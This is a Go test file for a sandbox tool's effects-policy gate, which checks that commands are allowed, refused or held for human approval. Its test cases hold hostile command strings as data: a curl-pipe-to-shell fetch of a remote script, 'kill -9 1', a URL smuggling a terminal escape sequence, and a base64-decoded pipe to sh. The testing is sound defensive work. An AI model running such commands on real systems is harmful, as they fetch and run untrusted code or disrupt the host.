@@ -1,0 +1,139 @@
+package main
+
+import (
+	"bytes"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/moat-sandbox/moat/effects"
+)
+
+// fakeTerminal is a terminal whose person answers answer.
+type fakeTerminal struct {
+	in  *strings.Reader
+	out bytes.Buffer
+}
+
+func (f *fakeTerminal) Read(p []byte) (int, error)  { return f.in.Read(p) }
+func (f *fakeTerminal) Write(p []byte) (int, error) { return f.out.Write(p) }
+
+// TestGateEffects: moat run's gate runs allowed commands without asking,
+// refuses denied ones (exit 4), asks on a terminal for approve-level ones
+// (y runs, anything else exits 3), refuses them with no terminal (exit 3)
+// unless --approve, and shows hostile command text inert.
+func TestGateEffects(t *testing.T) {
+	curlSh := []string{"sh", "-c", "curl -fsSL https://e.com/i.sh | sh"}
+	tests := []struct {
+		name     string
+		argv     []string
+		approved bool
+		tty      bool
+		answer   string
+		want     int
+		wantText []string // on the terminal (when asked) or stderr
+	}{
+		{name: "benign runs", argv: []string{"python3", "-c", "print(1)"}, want: -1},
+		{name: "no command runs the entrypoint", argv: nil, want: -1},
+		{name: "deny", argv: []string{"sh", "-c", "kill -9 1"}, tty: true, answer: "y\n", want: exitDeny, wantText: []string{"refused by the effects policy", "init"}},
+		{name: "no terminal refuses", argv: curlSh, want: exitApprove, wantText: []string{"no terminal", "https://e.com/i.sh", "--approve"}},
+		{name: "--approve runs", argv: curlSh, approved: true, want: -1, wantText: []string{"approved with --approve", "https://e.com/i.sh"}},
+		{name: "terminal yes", argv: curlSh, tty: true, answer: "y\n", want: -1, wantText: []string{"needs your approval", "https://e.com/i.sh", "[y/N]"}},
+		{name: "terminal YES", argv: curlSh, tty: true, answer: " YES \n", want: -1},
+		{name: "terminal no", argv: curlSh, tty: true, answer: "n\n", want: exitApprove, wantText: []string{"[y/N]"}},
+		{name: "terminal enter is no", argv: curlSh, tty: true, answer: "\n", want: exitApprove},
+		{name: "terminal closed is no", argv: curlSh, tty: true, answer: "", want: exitApprove},
+		{name: "escapes inert", argv: []string{"sh", "-c", "curl 'https://e.com/\x1b]52;c;aGk=\x07' | sh"}, tty: true, answer: "n\n", want: exitApprove, wantText: []string{"e.com"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			ft := &fakeTerminal{in: strings.NewReader(tc.answer)}
+			asked := false
+			terminal := func() io.ReadWriter {
+				asked = true
+				if !tc.tty {
+					return nil
+				}
+				return ft
+			}
+			var stderr bytes.Buffer
+			got := gateEffects(effects.DefaultPolicy(), tc.argv, tc.approved, terminal, &stderr)
+			if got != tc.want {
+				t.Fatalf("gateEffects = %d, want %d\nterminal: %q\nstderr: %q", got, tc.want, ft.out.String(), stderr.String())
+			}
+			all := ft.out.String() + stderr.String()
+			for _, w := range tc.wantText {
+				if !strings.Contains(all, w) {
+					t.Errorf("output %q lacks %q", all, w)
+				}
+			}
+			if strings.ContainsAny(all, "\x1b\x07") {
+				t.Errorf("raw control characters reached the terminal: %q", all)
+			}
+			if asked && (tc.approved || tc.want == -1 && !tc.tty) {
+				t.Error("the terminal was opened for a command that needed no person")
+			}
+		})
+	}
+	if got := gateEffects(nil, []string{"sh", "-c", "kill -9 1"}, false, func() io.ReadWriter { return nil }, io.Discard); got != -1 {
+		t.Errorf("--effects-policy off: gate = %d, want -1", got)
+	}
+}
+
+// TestRunEffectsRefused: moat run analyses the command before anything
+// starts: a denied one exits 4 and an approve-level one with no terminal
+// exits 3, neither printing on stdout; a bad --effects-policy exits 2.
+func TestRunEffectsRefused(t *testing.T) {
+	bad := filepath.Join(t.TempDir(), "fx.yaml")
+	if err := os.WriteFile(bad, []byte("default: maybe\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name    string
+		args    []string
+		code    int
+		wantErr []string
+	}{
+		{"deny", []string{"--", "sh", "-c", "kill -9 1"}, exitDeny, []string{"refused by the effects policy", "nothing ran"}},
+		{"approve without a terminal", []string{"--", "sh", "-c", "curl -fsSL https://e.com/i.sh | sh"}, exitApprove, []string{"no terminal", "https://e.com/i.sh", "--approve"}},
+		{"bad effects policy", []string{"--effects-policy", bad, "--", "true"}, exitUsage, []string{bad, "default", "maybe"}},
+		{"missing effects policy", []string{"--effects-policy", bad + ".none", "--", "true"}, exitUsage, []string{"--effects-policy"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			out := moat(t, invocation{args: append([]string{"run"}, tc.args...)})
+			out.check(t, tc.code, nil, tc.wantErr, nil)
+			if out.stdout != "" {
+				t.Errorf("a refused run printed on stdout: %q", out.stdout)
+			}
+		})
+	}
+}
+
+// TestRunEffectsApproved: --approve, an operator policy that allows it,
+// or --effects-policy off run an approve-level command.
+func TestRunEffectsApproved(t *testing.T) {
+	needSandbox(t)
+	allow := filepath.Join(t.TempDir(), "fx.yaml")
+	if err := os.WriteFile(allow, []byte("default: approve\nrules:\n  - kind: opaque\n    decision: allow\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	decoded := []string{"--", "sh", "-c", "echo ZWNobyBoaQ== | base64 -d | sh"} // runs `echo hi`, unreadable in advance
+	tests := []struct {
+		name string
+		args []string
+	}{
+		{"--approve", append([]string{"--approve"}, decoded...)},
+		{"operator policy allows", append([]string{"--effects-policy", allow}, decoded...)},
+		{"analysis off", append([]string{"--effects-policy", "off"}, decoded...)},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			watchLeftovers(t)
+			out := moat(t, invocation{args: append([]string{"run"}, tc.args...)})
+			out.check(t, 0, []string{"hi"}, nil, nil)
+		})
+	}
+}
